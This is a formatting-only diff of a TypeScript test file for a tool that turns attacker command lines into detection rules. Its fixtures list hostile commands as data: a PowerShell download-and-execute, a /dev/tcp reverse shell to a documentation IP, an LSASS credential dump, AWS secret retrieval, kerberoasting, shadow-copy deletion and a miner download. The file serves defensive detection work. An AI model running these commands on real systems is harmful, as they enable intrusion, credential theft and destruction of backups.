@@ -52,7 +52,11 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['whoami-privileges', 'windows', 'whoami /priv'],
   ['aws-cli-iam-persistence', 'linux', 'aws iam create-access-key --user-name svc-backup'],
   ['aws-cli-secrets', 'linux', 'aws secretsmanager get-secret-value --secret-id prod/db --region us-east-1'],
-  ['offensive-powershell', 'windows', 'powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.2/a.ps1\'); Invoke-ShareFinder -CheckShareAccess"'],
+  [
+    'offensive-powershell',
+    'windows',
+    'powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.2/a.ps1\'); Invoke-ShareFinder -CheckShareAccess"',
+  ],
   ['kerberos-ticket-tools', 'windows', 'C:\\Users\\Public\\svc.exe kerberoast /outfile:C:\\Users\\Public\\h.txt'],
   ['impacket-exec-output', 'windows', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.25 2>&1'],
   ['dev-tcp-shell', 'linux', 'bash -c "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"'],
@@ -91,7 +95,9 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
   });
 
   it('keys an LSASS dump through comsvcs.dll on MiniDump, not on the dump file name', () => {
-    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map((draft) => draft.rule);
+    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map(
+      (draft) => draft.rule,
+    );
     expect(rule?.detection).toEqual({
       selection_1: { 'Image|endswith': '\\rundll32.exe', 'CommandLine|contains': 'comsvcs' },
       selection_2: { 'CommandLine|contains': ['MiniDump', '#24', '#+24', '#0024'] },
@@ -102,35 +108,76 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
   });
 
   it('also fires on the spellings the article did not use', () => {
-    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map((draft) => draft.rule);
-    const variant = selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'rundll32 C:\\windows\\system32\\comsvcs.dll #24 612 D:\\x.dmp full' }]);
+    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map(
+      (draft) => draft.rule,
+    );
+    const variant = selfTestRule(rule as unknown as Record<string, unknown>, [
+      { type: 'cmdline', value: 'rundll32 C:\\windows\\system32\\comsvcs.dll #24 612 D:\\x.dmp full' },
+    ]);
     expect(variant.fires).toBe(true);
-    const [certutil] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[0]?.[2] ?? '' }] }).map((draft) => draft.rule);
-    expect(selfTestRule(certutil as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'certutil -urlcache -f https://203.0.113.9/x x.exe' }]).fires).toBe(true);
+    const [certutil] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[0]?.[2] ?? '' }] }).map(
+      (draft) => draft.rule,
+    );
+    expect(
+      selfTestRule(certutil as unknown as Record<string, unknown>, [
+        { type: 'cmdline', value: 'certutil -urlcache -f https://203.0.113.9/x x.exe' },
+      ]).fires,
+    ).toBe(true);
   });
 
   it('gives one rule per technique however many commands show it, and leaves other commands to their own rules', () => {
     const drafts = generateBuiltinRules({
       article,
       platform: 'windows',
-      cmdlines: ['vssadmin delete shadows /all /quiet', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB', 'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start'].map((value) => ({ ...item, value })),
+      cmdlines: [
+        'vssadmin delete shadows /all /quiet',
+        'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB',
+        'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start',
+      ].map((value) => ({ ...item, value })),
     });
-    expect(drafts.map((draft) => draft.rule.title)).toEqual(['Shadow Copies Deleted Via Vssadmin.EXE', 'Rundll32.EXE Execution Of DLL From Unusual Location']);
+    expect(drafts.map((draft) => draft.rule.title)).toEqual([
+      'Shadow Copies Deleted Via Vssadmin.EXE',
+      'Rundll32.EXE Execution Of DLL From Unusual Location',
+    ]);
   });
 
-  it('writes the rule of a technique any program shows besides the program\'s own rule', () => {
-    const drafts = generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value: 'curl -sL http://198.51.100.4/xmrig-6.21.0.tar.gz -o /tmp/.cache/x.tgz' }] });
+  it("writes the rule of a technique any program shows besides the program's own rule", () => {
+    const drafts = generateBuiltinRules({
+      article,
+      platform: 'linux',
+      cmdlines: [{ ...item, value: 'curl -sL http://198.51.100.4/xmrig-6.21.0.tar.gz -o /tmp/.cache/x.tgz' }],
+    });
     expect(drafts.map((draft) => draft.rule.title)).toEqual(['Cryptocurrency Miner Downloaded Or Run', 'Curl Download From Remote Host']);
     expect(drafts[0]?.rule.detection).toEqual({
-      selection: { 'CommandLine|contains': ['xmrig', 'stratum+tcp://', 'stratum+ssl://', 'stratum+tls://', '--donate-level', '--cpu-max-threads-hint', 'nicehash'] },
+      selection: {
+        'CommandLine|contains': [
+          'xmrig',
+          'stratum+tcp://',
+          'stratum+ssl://',
+          'stratum+tls://',
+          '--donate-level',
+          '--cpu-max-threads-hint',
+          'nicehash',
+        ],
+      },
       condition: 'selection',
     });
   });
 
   it('keys PsExec on a remote host or a host list, not on any path', () => {
-    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: 'PsExec.exe -h @hosts.txt -d -c C:\\Temp\\1.bat' }] }).map((draft) => draft.rule);
-    expect(selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'PsExec.exe \\\\FS02 -s cmd' }]).fires).toBe(true);
-    expect(selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'C:\\Tools\\PsExec.exe -i -s C:\\Windows\\regedit.exe' }]).fires).toBe(false);
+    const [rule] = generateBuiltinRules({
+      article,
+      platform: 'windows',
+      cmdlines: [{ ...item, value: 'PsExec.exe -h @hosts.txt -d -c C:\\Temp\\1.bat' }],
+    }).map((draft) => draft.rule);
+    expect(selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'PsExec.exe \\\\FS02 -s cmd' }]).fires).toBe(
+      true,
+    );
+    expect(
+      selfTestRule(rule as unknown as Record<string, unknown>, [
+        { type: 'cmdline', value: 'C:\\Tools\\PsExec.exe -i -s C:\\Windows\\regedit.exe' },
+      ]).fires,
+    ).toBe(false);
   });
 
   it('needs the program and the pattern on the platform the table names', () => {
